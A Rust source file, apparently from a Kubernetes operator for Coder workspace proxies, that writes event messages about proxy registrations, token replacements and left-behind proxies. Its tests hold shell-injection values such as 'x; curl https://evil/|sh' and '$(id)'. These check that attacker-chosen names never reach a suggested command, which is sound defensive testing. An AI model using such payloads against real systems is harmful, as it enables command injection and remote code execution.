//! Decides what is told of a registration that came, went, changed or was left, which no condition shows. Of tokens it knows nothing.

use super::reasons::Reason;
use super::registration::cause::Cause;
use super::registration::steps::Left;
use super::registration::work::Done;
use crate::controller::attached::commands::is_plain;
use crate::controller::attached::secret::{self, SecretPlace};
use crate::foreign::Foreign;
use crate::kubernetes::events::{EventDraft, Severity};

/// What there is to tell of something that was done.
pub(super) fn of_done(done: &Done) -> EventDraft {
    let mut severity = Severity::Normal;
    let (reason, note) = match done {
        Done::Registered(name) => {
            (Reason::ProxyRegistered, format!("workspace proxy {} was registered in coderd", clean(name)))
        }
        Done::TokenReplaced(name, cause) => {
            if cause.is_interference() {
                severity = Severity::Warning;
            }
            let name = clean(name);
            let note = format!(
                "the token of workspace proxy {name} was replaced and the one before is no longer valid: {}",
                because(cause)
            );
            (Reason::TokenReplaced, note)
        }
        Done::Renamed(from, to) => {
            (Reason::ProxyRenamed, format!("workspace proxy {} is called {} now", clean(from), clean(to)))
        }
        Done::Removed(name) => {
            (Reason::ProxyRemoved, format!("workspace proxy {} was removed from coderd", clean(name)))
        }
    };
    draft(severity, reason, note)
}

/// What there is to tell of a registration that stays in coderd. A command is suggested only for one that the operator recorded,
/// under a name that a shell takes as it stands: whoever may write a status would else have others run what they like.
pub(super) fn of_left(left: &Left) -> EventDraft {
    let name = clean(&left.name);
    // The object that could tell where is often gone.
    let place = |deployment: &str| match deployment {
        "" => "coderd".to_owned(),
        deployment => format!("the coderd with deployment id {}", clean(deployment)),
    };
    let note = match left.deployment.as_deref() {
        None => format!(
            "the operator cannot prove that it made workspace proxy {name}; if coderd has it, it was left there. Find out whose \
             it is before you delete it"
        ),
        Some(deployment) if is_plain(&left.name) => format!(
            "workspace proxy {name} was left in {}; if nobody uses it, run coder wsproxy delete {name}",
            place(deployment)
        ),
        Some(deployment) => format!(
            "workspace proxy {name} was left in {}; if nobody uses it, delete it there",
            place(deployment)
        ),
    };
    draft(Severity::Warning, Reason::ProxyLeftBehind, note)
}

/// What there is to tell of a Secret that stays with a token.
pub(super) fn of_left_secret(place: &SecretPlace) -> EventDraft {
    draft(Severity::Warning, Reason::SecretLeftBehind, secret::left(place))
}

fn because(cause: &Cause) -> String {
    match cause {
        Cause::Lost => "coderd's answer with that one was lost".to_owned(),
        Cause::Moved => {
            "coderd has another address in spec.bootstrap.coderURL, which was not shown the one before"
                .to_owned()
        }
        Cause::Adopted => "the proxy was taken over, as the annotation coder.com/adopt-proxy asks".to_owned(),
        Cause::Rotation(value) => format!("the annotation coder.com/rotate-token is {}", clean(value)),
        Cause::SecretEmptied(secret) => format!("Secret {secret} was deleted, or emptied"),
        Cause::SecretChanged(secret) => format!("Secret {secret} was changed and no longer holds it"),
        Cause::ReplacedByOthers => "somebody else replaced it in coderd".to_owned(),
    }
}

fn draft(severity: Severity, reason: Reason, note: String) -> EventDraft {
    EventDraft { severity, reason: reason.to_string(), action: "WorkspaceProxy".to_owned(), note }
}

/// coderd may have any text for a name.
fn clean(name: &str) -> String {
    Foreign::new(name).as_str().to_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_registration_that_was_left_is_a_warning_that_names_it_and_what_to_do() {
        let left = of_left(&Left { name: "eu".to_owned(), deployment: Some("deployment-1".to_owned()) });
        assert!(left.note.contains("deployment-1"), "{}", left.note);
        assert_eq!(left.severity, Severity::Warning);
        assert!(left.note.contains("coder wsproxy delete eu"), "{}", left.note);
        assert_eq!(of_done(&Done::Registered("eu".to_owned())).severity, Severity::Normal);
    }

    #[test]
    fn nobody_is_told_to_run_a_name_that_somebody_chose() {
        let told = |name: &str, deployment: Option<&str>| {
            of_left(&Left { name: name.to_owned(), deployment: deployment.map(str::to_owned) }).note
        };
        for name in ["x; curl https://evil/|sh", "$(id)", "a b", "-rf", "", "a'b", "a`id`", "é", "a\nb"] {
            let note = told(name, Some("deployment-1"));
            assert!(!note.contains("coder wsproxy") && note.ends_with("delete it there"), "{note}");
        }
        let long = told(&"x".repeat(5000), Some("deployment-1"));
        assert!(long.len() < 500 && long.ends_with("delete it there"), "{long}");
        let unproven = told("victim", None);
        assert!(unproven.contains("workspace proxy victim;"), "{unproven}");
        assert!(!unproven.contains("coder wsproxy"), "a status alone has nobody delete a proxy: {unproven}");
    }

    #[test]
    fn a_token_that_was_replaced_says_why_and_interference_is_a_warning() {
        let told = |cause: Cause| of_done(&Done::TokenReplaced("eu".to_owned(), cause));
        let rotated = told(Cause::Rotation("a1".to_owned()));
        assert!(rotated.note.ends_with("coder.com/rotate-token is a1"), "{}", rotated.note);
        assert_eq!(rotated.severity, Severity::Normal);
        assert_eq!(told(Cause::SecretEmptied("s".to_owned())).severity, Severity::Normal);
        for interference in [Cause::SecretChanged("s".to_owned()), Cause::ReplacedByOthers] {
            assert_eq!(told(interference).severity, Severity::Warning);
        }
    }
}
